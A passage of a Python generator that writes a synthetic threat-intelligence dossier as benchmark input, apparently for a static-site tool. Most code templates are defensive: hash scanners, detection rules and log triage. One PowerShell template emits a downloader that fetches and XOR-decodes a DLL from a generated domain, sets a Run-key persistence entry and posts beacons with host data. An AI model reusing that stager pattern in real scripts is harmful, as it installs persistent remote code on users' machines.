#!/usr/bin/env python3
"""Writes a realistic synthetic dossier for benchmarks, and optionally the
same articles as a Hugo site, so the two can be built side by side.

    python3 bench/gen_corpus.py OUT_DIR [--articles N] [--annotations K]
                                [--hugo HUGO_DIR] [--seed S] [--cached]

A benchmark is only as honest as its input. Each article carries the costs
a real one does: about 600 words of varied Markdown (headings, lists,
emphasis, links, cross-references, one table, a block quote) and one to
three fenced code blocks of 10 to 40 lines in Rust, Python, PowerShell,
JSON, YAML, bash, or log and indicator listings, each built from templates
with its own names, numbers, hashes, addresses and domains. With
`--annotations K`, each article gets K annotations whose quotes are taken
verbatim from its visible text: some overlap, some cross inline formatting
or typographic quotes, and one per article needs a `prefix` because its
sentence occurs twice in the article (the generator checks every quote
anchors exactly as `dossier` will, block by block). There are N/10
incidents and N/20 entities (actors, malware, organisations, countries),
referenced from articles, annotations and incidents. Actors and malware
name ATT&CK techniques and have relationships (some dated), incidents name
techniques, and one annotation in ten does, so the techniques pages,
entity charts and relationship graphs carry their cost too.

`--hugo DIR` writes the same N articles as a Hugo site (`content/posts/`,
`hugo.toml` with CSS-class highlighting, a trivial theme with tag pages).
Hugo has no annotations, incidents or entities: `@id` cross-references
become ordinary links.

Deterministic: each article comes from its own generator seeded by
(seed, index), so article i is the same text at every N (entity and
incident references aside). With `--cached`, an OUT_DIR whose stamp records
the same parameters and the same generator source is left as it is.
"""

import argparse
import hashlib
import json
import os
import random
import re
import shutil
import sys
import textwrap

STAMP = ".corpus-stamp"

# ---------------------------------------------------------------- word pools

FIRST = ("Aisha Alex Ana Anders Benoit Carla Chen Daniel Dmitri Elena Fatima "
         "Felix Grace Hannah Hiro Ines Ivan Jae-won James Jin Karin Kofi Laura "
         "Leila Lucas Maria Marta Min-ji Nadia Noah Olga Omar Paul Priya Rafael "
         "Ravi Sara Sean Soo-ah Tariq Tomas Valentina Wei Yusuf Zoe").split()
LAST = ("Adams Ahmed Alvarez Andersen Bakr Becker Brennan Carvalho Choi Costa "
        "Dubois Ekström Farah Fischer Garcia Haddad Hansen Ito Jensen Kang Kim "
        "Kowalski Lee Lindqvist Martin Moreau Müller Nakamura Novak Okafor "
        "O'Neill Park Petrov Quinn Rossi Santos Schmidt Silva Tanaka Tran "
        "Umarov Varga Wagner Walsh Yamamoto Yilmaz Zhang").split()
PUBLICATIONS = [
    ("Threat Ledger", "threatledger.example"),
    ("Cyber Affairs Weekly", "cyberaffairs.example"),
    ("The Incident Desk", "incidentdesk.example"),
    ("Northern Security Review", "nsr.example"),
    ("Signal & Noise", "signalnoise.example"),
    ("Packet Storm Journal", "packetjournal.example"),
    ("Financial Crime Monitor", "fincrime.example"),
    ("Policy Brief Quarterly", "policybrief.example"),
    ("Open Source Intelligence Digest", "osint-digest.example"),
    ("The Register of Breaches", "breachregister.example"),
    ("Asia Security Observer", "aso.example"),
    ("Dark Reading Room", "readingroom.example"),
]
AGENCIES = ("CISA", "the FBI", "the NCSC", "the BSI", "ANSSI", "the ACSC",
            "the US Treasury", "the UN Panel of Experts", "Europol", "the CCCS",
            "the Department of Justice", "KISA", "JPCERT/CC", "the NSA")
VENDORS = ("Mandiant", "Kaspersky", "ESET", "Symantec", "Secureworks",
           "Recorded Future", "Proofpoint", "CrowdStrike", "Talos", "Unit 42",
           "Group-IB", "Trend Micro", "Sophos", "Check Point Research")
ADJECTIVES = ("Velvet Silent Crimson Jade Iron Hidden Copper Amber Shadow Golden "
              "Pale Northern Frozen Midnight Lunar Scarlet Emerald Bronze Obsidian "
              "Cobalt Granite Wandering Quiet Bitter Hollow Opal Sable Ashen").split()
ANIMALS = ("Chollima Panda Bear Kitten Spider Typhoon Lynx Heron Tiger Falcon "
           "Wren Viper Jackal Otter Crane Mantis Badger Harrier Ibex Marten").split()
MAL_HEAD = ("Hop Shadow Dark Blind Electric Bank Crypt Ghost Night Wild Brute "
            "Snake Dragon Hermit Magic Power Fast Tiny Smoke Lazy Iron Keen").split()
MAL_TAIL = ("Light Fish Loader Rat Door Shell Bot Stealer Crypt Spy Worm Agent "
            "Drop Hook Tunnel Beacon Lock Miner").split()
CITIES = ("Dhaka Manila Seoul Lagos Nairobi Lima Quito Hanoi Jakarta Warsaw "
          "Kyiv Tallinn Riga Vilnius Oslo Lisbon Porto Lyon Ghent Leipzig Turin "
          "Seville Izmir Tbilisi Almaty Karachi Colombo Kathmandu Accra Dakar "
          "Tunis Rabat Doha Muscat Perth Auckland Osaka Busan Taipei Cebu Recife "
          "Rosario Bogota Monterrey Calgary Halifax Glasgow Cardiff Belfast").split()
COUNTRIES = ("Bangladesh Philippines Vietnam Ecuador Poland Chile Mexico Nigeria "
             "Kenya Ghana Turkey Estonia Latvia Lithuania Norway Portugal Spain "
             "Italy Germany France Belgium Netherlands Japan Taiwan Indonesia "
             "Malaysia Thailand India Pakistan Nepal Australia Canada Brazil "
             "Argentina Colombia Peru Morocco Tunisia Egypt Israel Qatar Oman "
             "Georgia Kazakhstan Ukraine Romania Hungary Czechia Slovakia Austria "
             "Switzerland Sweden Finland Denmark Ireland Iceland Greece Cyprus "
             "Malta Slovenia Croatia Serbia").split()
SECTORS = ("banking", "cryptocurrency", "defence", "healthcare", "energy",
           "telecommunications", "media", "aerospace", "shipping", "government",
           "education", "retail", "manufacturing", "logistics", "insurance")
TAGS = ("espionage theft ransomware phishing supply-chain sanctions swift "
        "cryptocurrency exchange wiper loader backdoor advisory indictment "
        "attribution laundering defence healthcare banking energy telecoms "
        "media zero-day exploit credential-theft watering-hole destructive "
        "financial un-panel policy malware-analysis infrastructure c2 dns "
        "persistence lateral-movement exfiltration ddos extortion mobile "
        "linux windows macos cloud vpn email social-engineering recruitment "
        "fake-jobs npm pypi open-source court-filing press-release").split()
WORDS = ("beacon stage loader payload config session token cache buffer queue "
         "report sample module task handle socket packet frame record entry "
         "victim host agent relay proxy tunnel mutex key nonce seed blob").split()
TLDS = ("com", "net", "org", "info", "biz", "io", "xyz", "top", "site", "online")
MONTHS = ("January February March April May June July August September "
          "October November December").split()


def slug(text):
    return re.sub(r"[^a-z0-9]+", "-", text.lower()).strip("-")


def q(text):
    """A YAML double-quoted scalar (JSON strings are valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


class Rand(random.Random):
    """Random values with the shapes of threat-intelligence text."""

    def hexs(self, n):
        return "".join(self.choice("0123456789abcdef") for _ in range(n))

    def sha256(self):
        return self.hexs(64)

    def md5(self):
        return self.hexs(32)

    def ip(self):
        return f"{self.randint(11, 223)}.{self.randint(0, 255)}.{self.randint(0, 255)}.{self.randint(1, 254)}"

    def word(self):
        return self.choice(WORDS)

    def domain(self):
        left = self.choice(WORDS) + self.choice(("", "-", "")) + self.choice(WORDS)
        if self.random() < 0.3:
            left = self.choice(("cdn", "update", "login", "mail", "api", "static")) + "." + left
        return f"{left}{self.randint(0, 99) if self.random() < 0.3 else ''}.{self.choice(TLDS)}"

    def url(self):
        return f"https://{self.domain()}/{self.word()}/{self.hexs(8)}"

    def ident(self, words=2):
        return "_".join(self.word() for _ in range(self.randint(1, words)))

    def camel(self, words=2):
        return "".join(self.word().capitalize() for _ in range(self.randint(1, words)))

    def person(self):
        return f"{self.choice(FIRST)} {self.choice(LAST)}"

    def date(self, lo=2005, hi=2025):
        return f"{self.randint(lo, hi)}-{self.randint(1, 12):02d}-{self.randint(1, 28):02d}"

    def money(self):
        amount = self.choice((self.randint(2, 99) / 10, self.randint(1, 950), self.randint(1, 99)))
        unit = "m" if amount < 100 or self.random() < 0.7 else "k"
        return f"US${amount}{unit}"

    def uuid(self):
        h = self.hexs(32)
        return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:]}"

    def b64(self, n):
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        return "".join(self.choice(alphabet) for _ in range(n)) + "=="

    def winpath(self):
        base = self.choice((r"C:\ProgramData", r"C:\Users\Public", r"%APPDATA%\Microsoft",
                            r"C:\Windows\Temp", r"%LOCALAPPDATA%\Temp"))
        return f"{base}\\{self.camel()}\\{self.word()}{self.randint(1, 64)}.{self.choice(('dll', 'exe', 'dat', 'tmp'))}"

    def timestamp(self):
        return f"{self.date(2016, 2025)}T{self.randint(0, 23):02d}:{self.randint(0, 59):02d}:{self.randint(0, 59):02d}Z"


# ---------------------------------------------------------------- entities

class Entity:
    def __init__(self, id, name, kind):
        self.id, self.name, self.kind = id, name, kind


def make_entities(n, rng):
    kinds = ["actor"] * 3 + ["malware"] * 3 + ["organisation"] * 3 + ["country"]
    names = set()
    entities = []
    countries = list(COUNTRIES)
    rng.shuffle(countries)

    def unique(name):
        base, k = name, 2
        while name in names:
            name = f"{base} {k}"
            k += 1
        names.add(name)
        return name

    for i in range(n):
        kind = kinds[i % len(kinds)] if i >= 4 else ("actor", "malware", "organisation", "country")[i]
        if kind == "country" and not countries:
            kind = "organisation"
        if kind == "actor":
            r = rng.random()
            if r < 0.6:
                name = f"{rng.choice(ADJECTIVES)} {rng.choice(ANIMALS)}"
            else:
                name = f"{rng.choice(('APT', 'UNC', 'TA', 'DEV-'))}{rng.randint(10, 4999)}"
        elif kind == "malware":
            name = rng.choice(MAL_HEAD) + rng.choice(MAL_TAIL)
        elif kind == "organisation":
            city = rng.choice(CITIES)
            name = rng.choice((
                f"{city} National Bank", f"{city} Cooperative Bank", f"{city} University Hospital",
                f"{city} Power Authority", f"{rng.choice(ADJECTIVES)} Logistics",
                f"{rng.choice(LAST)} Partners LLP", f"{rng.choice(ADJECTIVES)}Chain Exchange",
                f"Ministry of Finance of {rng.choice(COUNTRIES)}", f"{city} Port Authority",
            ))
        else:
            name = countries.pop()
        name = unique(name)
        entities.append(Entity(slug(name), name, kind))
    return entities


def sources_yaml(rng, indent, count):
    """A `sources:` list: URL strings and full citation maps."""
    pad = " " * indent
    out = [f"{pad}sources:"]
    for _ in range(count):
        if rng.random() < 0.5:
            out.append(f"{pad}  - {rng.url()}")
        else:
            pub, host = rng.choice(PUBLICATIONS)
            out.append(f"{pad}  - title: {q(rng.choice(('Technical analysis of', 'Advisory on', 'Notes on', 'Indictment in')) + ' ' + rng.camel(2))}")
            out.append(f"{pad}    url: \"https://{host}/{rng.randint(2010, 2025)}/{rng.hexs(6)}\"")
            out.append(f"{pad}    publisher: {q(pub)}")
            out.append(f"{pad}    date: {rng.date()}")
            out.append(f"{pad}    reliability: {rng.choice('ABBCCD')}")
    return out


# Active ATT&CK Enterprise techniques (all in src/attack/enterprise.tsv),
# for entities, incidents and annotations to name.
TECHNIQUES = (
    "T1566 T1566.001 T1566.002 T1059 T1059.001 T1059.003 T1105 T1071.001 T1027 "
    "T1486 T1490 T1078 T1133 T1190 T1204.002 T1547.001 T1053.005 T1055 "
    "T1003.001 T1021.001 T1041 T1567.002 T1565.001 T1565.002 T1070.004 T1112 "
    "T1083 T1082 T1016 T1018 T1057 T1560.001 T1573.001 T1090 T1571 T1189 "
    "T1195.002 T1485 T1561.002 T1529 T1496 T1098 T1136.001"
).split()


def techniques_yaml(rng, low, high, indent=""):
    """A `techniques:` line naming LOW to HIGH techniques, or nothing."""
    n = rng.randint(low, high)
    return [f"{indent}techniques: [{', '.join(rng.sample(TECHNIQUES, n))}]"] if n else []


def relations_yaml(e, rng, by_kind):
    """An actor's or a malware's relationships (SPEC 2.8), some dated."""
    if e.kind == "actor":
        choices = [("uses", "malware"), ("uses", "malware"), ("targets", "organisation"),
                   ("targets", "country"), ("located-at", "country"), ("related-to", "actor")]
    elif e.kind == "malware":
        choices = [("attributed-to", "actor"), ("related-to", "malware")]
    else:
        return []
    lines = []
    seen = set()
    for _ in range(rng.randint(1, 4)):
        kind, target_kind = rng.choice(choices)
        target = rng.choice(by_kind[target_kind])
        if target.id == e.id or (kind, target.id) in seen:
            continue
        seen.add((kind, target.id))
        lines += [f"  - type: {kind}", f"    target: {target.id}"]
        if rng.random() < 0.5:
            lines.append(f"    confidence: {rng.choice(('low', 'moderate', 'high'))}")
        if rng.random() < 0.4:
            year = rng.randint(2008, 2024)
            lines.append(f"    first_seen: {year}-{rng.randint(1, 12):02d}")
            if rng.random() < 0.5:
                lines.append(f"    last_seen: {year + rng.randint(0, 3)}")
    return ["relations:"] + lines if lines else []


def write_entity(path, e, rng, entities):
    other = rng.choice(entities)
    summary = (f"{e.name} is tracked as {rng.choice(('a', 'an active', 'a long-running'))} "
               f"{e.kind} in public reporting since {rng.randint(2005, 2022)}. "
               f"It is often mentioned together with [{other.name}](@{other.id}), "
               f"and {rng.choice(VENDORS)} has published {rng.randint(2, 30)} reports on it.")
    lines = [f"name: {q(e.name)}", f"kind: {e.kind}"]
    if e.kind in ("actor", "malware") and rng.random() < 0.6:
        aliases = [f"{rng.choice(ADJECTIVES)} {rng.choice(ANIMALS)}" if e.kind == "actor"
                   else rng.choice(MAL_HEAD) + rng.choice(MAL_TAIL) for _ in range(rng.randint(1, 3))]
        lines.append(f"aliases: [{', '.join(q(a) for a in aliases)}]")
    lines.append("summary: |")
    lines += ["  " + line for line in textwrap.wrap(summary, 76)]
    lines.append(f"tags: [{', '.join(rng.sample(TAGS, rng.randint(1, 3)))}]")
    lines += sources_yaml(rng, 0, rng.randint(0, 2)) if rng.random() < 0.7 else []
    # Techniques and relationships from a stream of their own, so that
    # adding them left the rest of the corpus as it was.
    extra = random.Random(f"extra:{e.id}")
    if e.kind in ("actor", "malware"):
        lines += techniques_yaml(extra, 1, 4)
        by_kind = {}
        for x in entities:
            by_kind.setdefault(x.kind, []).append(x)
        lines += relations_yaml(e, extra, by_kind)
    write(path, "\n".join(lines) + "\n")


def write_incident(path, i, rng, by_kind):
    actor = rng.choice(by_kind["actor"])
    target = rng.choice(by_kind["organisation"] + by_kind["country"])
    malware = rng.choice(by_kind["malware"])
    kind = rng.choice(("attack", "attack", "attack", "advisory", "report", "sanction", "other"))
    title = {
        "attack": f"{actor.name} intrusion at {target.name}",
        "advisory": f"Advisory on {malware.name}",
        "report": f"Report on {actor.name} operations",
        "sanction": f"Sanctions against {actor.name}",
        "other": f"{target.name} disclosure",
    }[kind]
    year = rng.randint(2005, 2025)
    date = rng.choice((f"{year}", f"{year}-{rng.randint(1, 12):02d}",
                       f"{year}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}",
                       f"{year}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"))
    lines = [f"title: {q(title)}", f"date: {date}"]
    if len(date) == 10 and rng.random() < 0.3:
        lines.append(f"end: {year + 1}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}")
    lines.append(f"kind: {kind}")
    summary = (f"[{actor.name}](@{actor.id}) is reported to have used [{malware.name}](@{malware.id}) "
               f"against [{target.name}](@{target.id}) in {year}. According to {rng.choice(AGENCIES)}, "
               f"the operators reached {rng.randint(2, 60)} hosts and staged data at `{rng.ip()}` "
               f"before {rng.choice(('the intrusion was noticed', 'the accounts were frozen', 'the advisory was published'))}.")
    lines.append("summary: |")
    lines += ["  " + line for line in textwrap.wrap(summary, 76)]
    lines.append(f"actors: [{actor.id}]")
    lines.append(f"targets: [{target.id}]")
    lines.append(f"malware: [{malware.id}]")
    if kind == "attack" and rng.random() < 0.5:
        lines.append(f"losses: {q(f'About {rng.money()} stolen, {rng.money()} recovered')}")
    lines.append(f"tags: [{', '.join(rng.sample(TAGS, rng.randint(1, 4)))}]")
    lines += sources_yaml(rng, 0, rng.randint(1, 3))
    lines += techniques_yaml(random.Random(f"extra:incident:{i}"), 0, 3)
    write(path, "\n".join(lines) + "\n")


# ---------------------------------------------------------------- code blocks

def pad_to(lines, target, filler):
    """Calls filler() for more lines until the block has `target` lines."""
    while len(lines) < target:
        lines.append(filler())
    return lines


def code_rust(rng, n):
    name = rng.ident()
    if rng.random() < 0.5:
        key = ", ".join(f"0x{rng.hexs(2)}" for _ in range(8))
        servers = [f"    \"{rng.domain()}:{rng.choice((443, 8443, 80, 8080))}\"," for _ in range(max(1, n - 24))]
        off = rng.randint(16, 4096)
        return [
            "use std::io::{self, Read};",
            "",
            f"const KEY: [u8; 16] = [{key},",
            f"                       {', '.join(f'0x{rng.hexs(2)}' for _ in range(8))}];",
            "const SERVERS: &[&str] = &[",
            *servers,
            "];",
            "",
            f"/// Decodes the {name} block found at offset {off:#x} of the sample.",
            f"fn decode_{name}(input: &[u8]) -> Vec<u8> {{",
            "    input",
            "        .iter()",
            "        .enumerate()",
            f"        .map(|(i, b)| b ^ KEY[i % KEY.len()] ^ (i as u8).wrapping_mul({rng.randint(3, 251)}))",
            "        .collect()",
            "}",
            "",
            "fn main() -> io::Result<()> {",
            "    let mut buf = Vec::new();",
            "    io::stdin().read_to_end(&mut buf)?;",
            f"    let plain = decode_{name}(&buf[{off}..]);",
            "    for server in SERVERS {",
            "        println!(\"{server}: {} bytes\", plain.len());",
            "    }",
            "    Ok(())",
            "}",
        ]
    ty = rng.camel(2) + "Config"
    fields = [(rng.ident(1) + f"_{k}", rng.choice(("u32", "u16", "String", "Vec<u8>", "bool", "[u8; 4]")))
              for k in range(max(2, (n - 16) // 2))]
    lines = ["#[derive(Debug, Clone)]", f"pub struct {ty} {{"]
    lines += [f"    pub {f}: {t}," for f, t in fields]
    lines += ["}", "", f"impl {ty} {{", f"    /// Parses the {rng.word()} header written by the implant.",
              "    pub fn parse(raw: &[u8]) -> Option<Self> {",
              f"        if raw.len() < {rng.randint(16, 512)} || raw[0] != 0x{rng.hexs(2)} {{",
              "            return None;", "        }", f"        Some({ty} {{"]
    for f, t in fields:
        off = rng.randint(1, 400)
        value = {"u32": f"u32::from_le_bytes(raw[{off}..{off + 4}].try_into().ok()?)",
                 "u16": f"u16::from_be_bytes([raw[{off}], raw[{off + 1}]])",
                 "String": f"String::from_utf8_lossy(&raw[{off}..{off + 32}]).into_owned()",
                 "Vec<u8>": f"raw[{off}..].to_vec()",
                 "bool": f"raw[{off}] & 0x{rng.hexs(2)} != 0",
                 "[u8; 4]": f"raw[{off}..{off + 4}].try_into().ok()?"}[t]
        lines.append(f"            {f}: {value},")
    lines += ["        })", "    }", "}"]
    return lines


def code_python(rng, n):
    if rng.random() < 0.5:
        entries = max(1, n - 20)
        iocs = [f"    \"{rng.sha256()}\": \"{rng.camel()}.{rng.choice(('dll', 'exe', 'ps1'))}\","
                for _ in range(entries)]
        table = f"KNOWN_{rng.ident(1).upper()}"
        scan = f"scan_{rng.ident()}"
        return [
            "import hashlib",
            "import sys",
            "from pathlib import Path",
            "",
            f"{table} = {{",
            *iocs,
            "}",
            "",
            "",
            f"def {scan}(root: Path) -> int:",
            "    hits = 0",
            f"    for path in root.rglob(\"*.{rng.choice(('dll', 'exe', 'tmp', 'dat'))}\"):",
            "        digest = hashlib.sha256(path.read_bytes()).hexdigest()",
            f"        if digest in {table}:",
            f"            print(f\"{{path}}: {{{table}[digest]}} ({{digest[:16]}})\")",
            "            hits += 1",
            "    return hits",
            "",
            "",
            "if __name__ == \"__main__\":",
            f"    sys.exit(1 if {scan}(Path(sys.argv[1])) else 0)",
        ]
    key = rng.randint(1, 255)
    lines = [
        "import base64",
        "import struct",
        "",
        f"XOR_KEY = 0x{key:02x}",
        f"MAGIC = b\"{rng.hexs(8)}\"",
        "",
        "",
        f"def decode_{rng.ident()}(blob: bytes) -> dict:",
        f"    \"\"\"Unpacks the {rng.word()} configuration of a {rng.choice(MAL_HEAD)}{rng.choice(MAL_TAIL)} sample.\"\"\"",
        "    data = bytes(b ^ XOR_KEY for b in base64.b64decode(blob))",
        "    if not data.startswith(MAGIC):",
        "        raise ValueError(\"not a config block\")",
        f"    sleep, jitter, port = struct.unpack_from(\"<IHH\", data, {rng.randint(8, 64)})",
        "    config = {\"sleep\": sleep, \"jitter\": jitter, \"port\": port}",
    ]
    while len(lines) < n - 3:
        off = rng.randint(64, 2048)
        lines.append(f"    config[\"{rng.ident(1)}\"] = data[{off}:{off + rng.randint(4, 64)}].rstrip(b\"\\0\").decode()")
    lines += ["    return config", "", f"print(decode_{rng.ident(1)}(b\"{rng.b64(24)}\"))"]
    return lines


def code_powershell(rng, n):
    if rng.random() < 0.5:
        lines = [
            f"$u = 'https://{rng.domain()}/{rng.word()}/{rng.hexs(12)}.png'",
            f"$p = \"$env:APPDATA\\{rng.camel()}\\{rng.word()}.dll\"",
            "New-Item -ItemType Directory -Force -Path (Split-Path $p) | Out-Null",
            "$wc = New-Object System.Net.WebClient",
            f"$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) {rng.camel()}/{rng.randint(1, 9)}.0')",
            "$bytes = $wc.DownloadData($u)",
            f"for ($i = 0; $i -lt $bytes.Length; $i++) {{ $bytes[$i] = $bytes[$i] -bxor 0x{rng.hexs(2)} }}",
            "[IO.File]::WriteAllBytes($p, $bytes)",
            f"$k = 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'",
            f"New-ItemProperty -Path $k -Name '{rng.camel()}' -Value \"rundll32.exe $p,{rng.camel()}\" -Force",
        ]
        return pad_to(lines, n, lambda: f"Start-Sleep -Seconds {rng.randint(5, 900)}; "
                      f"Invoke-RestMethod -Uri 'https://{rng.domain()}/{rng.word()}' -Method Post "
                      f"-Body (@{{id = '{rng.hexs(8)}'; os = $env:OS}} | ConvertTo-Json)")
    hashes = [f"    '{rng.sha256()}'," for _ in range(max(1, n - 14))]
    return [
        "$known = @(",
        *hashes,
        ")",
        f"$since = (Get-Date).AddDays(-{rng.randint(7, 120)})",
        "Get-WinEvent -FilterHashtable @{ LogName = 'Microsoft-Windows-Sysmon/Operational'; Id = 1; StartTime = $since } |",
        "    ForEach-Object {",
        "        $xml = [xml]$_.ToXml()",
        "        $hash = ($xml.Event.EventData.Data | Where-Object Name -eq 'Hashes').'#text'",
        "        if ($known | Where-Object { $hash -match $_ }) {",
        "            [pscustomobject]@{ Time = $_.TimeCreated; Host = $env:COMPUTERNAME; Hash = $hash }",
        "        }",
        "    } |",
        f"    Export-Csv -NoTypeInformation -Path 'C:\\IR\\{rng.word()}-hits.csv'",
        f"Write-Host \"Checked $($known.Count) hashes on $env:COMPUTERNAME\"",
    ]


def code_json(rng, n):
    indicators = []
    doc = {
        "campaign": f"{rng.choice(ADJECTIVES)} {rng.choice(ANIMALS)}",
        "build": rng.hexs(8),
        "sleep": rng.randint(30, 3600),
        "jitter": rng.randint(0, 50),
        "mutex": f"Global\\{rng.uuid()}",
        "c2": [f"https://{rng.domain()}/{rng.word()}" for _ in range(rng.randint(1, 3))],
        "indicators": indicators,
    }
    while len(json.dumps(doc, indent=2).splitlines()) + 5 <= n:
        kind = rng.choice(("sha256", "domain", "ipv4"))
        value = {"sha256": rng.sha256, "domain": rng.domain, "ipv4": rng.ip}[kind]()
        indicators.append({"type": kind, "value": value, "first_seen": rng.timestamp()})
    return json.dumps(doc, indent=2).splitlines()


def code_yaml(rng, n):
    lines = [
        f"title: {rng.choice(MAL_HEAD)}{rng.choice(MAL_TAIL)} loader started by rundll32",
        f"id: {rng.uuid()}",
        "status: experimental",
        f"description: Detects the {rng.word()} stage seen in {rng.choice(('spearphishing', 'fake job offer', 'trojanised installer'))} campaigns",
        f"author: {rng.person()}",
        f"date: {rng.date(2016, 2025).replace('-', '/')}",
        "logsource:",
        "  category: process_creation",
        "  product: windows",
        "detection:",
        "  selection:",
        "    Image|endswith: '\\rundll32.exe'",
        "    CommandLine|contains:",
    ]
    while len(lines) < n - 8:
        folder = rng.choice(("\\AppData\\", "\\ProgramData\\", "\\Temp\\"))
        lines.append(f"      - '{folder}{rng.word()}{rng.randint(1, 99)}.dll,{rng.camel()}'")
    lines += [
        "  condition: selection",
        "falsepositives:",
        "  - Unknown",
        f"level: {rng.choice(('medium', 'high', 'critical'))}",
        "tags:",
        "  - attack.execution",
        f"  - attack.t{rng.choice(('1218.011', '1059.001', '1204.002'))}",
    ]
    return lines


def code_bash(rng, n):
    domains = [f"  {rng.domain()}" for _ in range(max(1, n - 22))]
    return [
        "#!/usr/bin/env bash",
        "# Triage: known domains in proxy logs, dropped files, odd cron entries.",
        "set -euo pipefail",
        f"LOGS=/var/log/{rng.choice(('squid', 'nginx', 'proxy'))}",
        f"OUT=/tmp/ir-{rng.hexs(6)}",
        "mkdir -p \"$OUT\"",
        "DOMAINS=(",
        *domains,
        ")",
        "for d in \"${DOMAINS[@]}\"; do",
        "  zgrep -h -- \"$d\" \"$LOGS\"/access.log* >> \"$OUT/hits.txt\" || true",
        "done",
        "awk '{print $3}' \"$OUT/hits.txt\" | sort | uniq -c | sort -rn | head -20",
        f"find /tmp /var/tmp /dev/shm -type f -newermt '{rng.date(2018, 2025)}' -size -{rng.randint(1, 20)}M \\",
        "  -exec sha256sum {} + > \"$OUT/files.sha256\"",
        f"grep -E '({rng.hexs(6)}|{rng.hexs(6)})' \"$OUT/files.sha256\" && echo \"known sample found\"",
        "crontab -l 2>/dev/null | grep -vE '^#' > \"$OUT/cron.txt\" || true",
        f"curl -s -A 'Mozilla/5.0' -o /dev/null -w '%{{http_code}}\\n' \"https://{rng.domain()}/\"",
        f"ss -tnp | grep -E ':({rng.randint(1024, 65535)}|{rng.randint(1024, 65535)})' || true",
        "tar -czf \"$OUT.tgz\" -C \"$(dirname \"$OUT\")\" \"$(basename \"$OUT\")\"",
        "echo \"evidence in $OUT.tgz\"",
    ]


def code_log(rng, n):
    lines = []
    host = rng.domain()
    for _ in range(n):
        if rng.random() < 0.7:
            lines.append(f"{rng.ip()} - - [{rng.randint(1, 28):02d}/{rng.choice(MONTHS)[:3]}/{rng.randint(2016, 2025)}:"
                         f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d} +0000] "
                         f"\"{rng.choice(('GET', 'POST'))} /{rng.word()}/{rng.hexs(10)}.php?id={rng.randint(1, 99999)} HTTP/1.1\" "
                         f"{rng.choice((200, 200, 302, 404, 500))} {rng.randint(120, 90000)} \"-\" \"Mozilla/5.0 ({host})\"")
        else:
            lines.append(f"{rng.timestamp()} {host} sshd[{rng.randint(100, 65000)}]: Accepted publickey for "
                         f"{rng.word()} from {rng.ip()} port {rng.randint(1024, 65535)} ssh2: RSA SHA256:{rng.b64(20)}")
    return lines


def code_indicators(rng, n):
    lines = [f"# {rng.choice(('IOCs', 'Indicators', 'Network and host indicators'))} ({rng.date(2016, 2025)})"]
    for _ in range(n - 1):
        kind = rng.choice(("sha256", "md5", "domain", "ipv4", "url", "path"))
        value = {"sha256": rng.sha256, "md5": rng.md5, "domain": rng.domain, "ipv4": rng.ip,
                 "url": rng.url, "path": rng.winpath}[kind]()
        lines.append(f"{kind:<7} {value}")
    return lines


# (fence info string, generator, weight); syntect has no PowerShell grammar,
# Hugo's Chroma has: the PowerShell blocks are escaped text in dossier.
LANGUAGES = [
    ("python", code_python, 20), ("bash", code_bash, 16), ("powershell", code_powershell, 14),
    ("json", code_json, 14), ("yaml", code_yaml, 12), ("rust", code_rust, 10),
    ("log", code_log, 8), ("text", code_indicators, 6),
]


def code_block(rng):
    lang, gen, _ = rng.choices(LANGUAGES, weights=[w for *_, w in LANGUAGES])[0]
    lines = gen(rng, rng.randint(10, 40))
    return lang, "\n".join(lines)


# ---------------------------------------------------------------- prose

class Token:
    """One piece of a sentence: its Markdown and the text a reader sees."""

    def __init__(self, md, text=None):
        self.md, self.text = md, md if text is None else text


class Article:
    def __init__(self, index, rng, entities, by_kind, incidents):
        self.rng, self.entities, self.by_kind, self.incidents = rng, entities, by_kind, incidents
        self.actor = rng.choice(by_kind["actor"])
        self.malware = rng.choice(by_kind["malware"])
        self.org = rng.choice(by_kind["organisation"])
        self.country = rng.choice(by_kind["country"])
        self.pub, self.host = rng.choice(PUBLICATIONS)
        self.index = index

    # Fillers: each returns a Token (Markdown, visible text).
    def ref(self, e):
        r = self.rng.random()
        if r < 0.25:
            return Token(f"[{e.name}](@{e.id})", e.name)
        if r < 0.35:
            return Token(f"*{e.name}*", e.name)
        return Token(e.name)

    def fill(self, slot):
        rng = self.rng
        pick = lambda kind, default: rng.choice(self.by_kind[kind]) if rng.random() < 0.3 else default
        if slot == "actor":
            return self.ref(pick("actor", self.actor))
        if slot == "malware":
            return self.ref(pick("malware", self.malware))
        if slot == "org":
            return self.ref(pick("organisation", self.org))
        if slot == "country":
            return Token(pick("country", self.country).name)
        if slot == "agency":
            return Token(rng.choice(AGENCIES))
        if slot == "vendor":
            v = rng.choice(VENDORS)
            return Token(f"[{v}]({rng.url()})", v) if rng.random() < 0.3 else Token(v)
        if slot == "pub":
            return Token(f"[{self.pub}](https://{self.host}/{rng.randint(2010, 2025)}/{rng.hexs(6)})", self.pub) \
                if rng.random() < 0.4 else Token(self.pub)
        if slot == "money":
            m = rng.money()
            return Token(f"**{m}**", m) if rng.random() < 0.3 else Token(m)
        if slot in ("hash", "ip", "domain", "path", "mutex"):
            value = {"hash": rng.sha256, "ip": rng.ip, "domain": rng.domain, "path": rng.winpath,
                     "mutex": lambda: f"Global\\{rng.hexs(16)}"}[slot]()
            return Token(f"`{value}`", value)
        if slot == "n":
            return Token(str(rng.randint(2, 400)))
        if slot == "month":
            return Token(f"{rng.choice(MONTHS)} {rng.randint(2005, 2025)}")
        if slot == "sector":
            return Token(rng.choice(SECTORS))
        if slot == "person":
            return Token(rng.person())
        if slot == "city":
            return Token(rng.choice(CITIES))
        if slot == "port":
            return Token(str(rng.choice((443, 8443, 8080, 53, 25, 465, rng.randint(1024, 65535)))))
        if slot == "confidence":
            return Token(rng.choice(("low", "moderate", "high")))
        if slot == "word":
            return Token(rng.word())
        if slot == "ref_incident":
            inc = rng.choice(self.incidents)
            return Token(f"[{inc[1]}](@{inc[0]})", inc[1])
        raise KeyError(slot)

    def sentence(self, template=None):
